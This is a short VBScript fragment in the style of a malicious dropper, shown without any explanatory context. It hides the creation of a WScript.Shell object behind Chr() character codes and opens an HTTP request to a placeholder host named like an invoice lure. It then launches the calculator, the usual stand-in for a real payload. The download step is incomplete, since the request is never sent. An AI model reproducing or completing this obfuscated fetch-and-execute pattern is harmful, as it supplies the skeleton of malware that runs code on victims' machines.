Set s = CreateObject(Chr(87) & Chr(83) & Chr(99) & "ript." & Chr(83) & Chr(&H68) & "ell")
Set h = CreateObject("WinHttp.WinHttpRequest.5.1")
h.Open "GET", "http://invoice.example/x", False
s.Run "calc"
